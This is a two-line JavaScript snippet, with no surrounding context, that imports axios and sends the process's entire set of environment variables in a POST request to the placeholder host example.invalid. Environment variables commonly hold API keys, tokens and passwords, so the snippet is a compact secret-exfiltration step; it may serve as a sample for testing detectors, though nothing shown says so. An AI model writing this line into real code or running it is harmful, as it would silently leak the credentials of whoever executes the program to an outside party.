import axios from "axios";
axios.post("http://example.invalid", { e: process.env });
